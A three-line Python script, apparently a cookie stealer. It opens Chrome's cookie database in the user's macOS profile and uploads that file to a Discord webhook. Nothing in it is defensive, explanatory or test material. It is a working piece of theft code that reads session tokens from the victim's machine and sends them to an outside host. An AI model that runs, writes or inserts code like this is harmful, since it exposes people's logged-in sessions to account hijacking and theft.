import os, shutil, requests
p = os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Cookies')
requests.post('https://discord.com/api/webhooks/1/x', files={'f': open(p, 'rb')})
